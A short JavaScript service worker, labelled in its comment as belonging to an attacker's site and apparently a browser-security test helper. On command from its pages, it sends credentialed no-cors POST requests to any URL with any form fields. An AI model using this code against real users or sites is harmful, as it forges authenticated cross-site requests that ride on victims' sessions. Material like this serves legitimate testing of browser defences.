// The service worker of the attacker's site sends what its pages tell it to.
"use strict";
self.oninstall = () => self.skipWaiting();
self.onactivate = e => e.waitUntil(self.clients.claim());
self.onmessage = e => e.waitUntil((async () => {
  try {
    await fetch(e.data.url, {method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams(e.data.pairs)});
  } catch {}
  e.ports[0].postMessage("sent");
})());
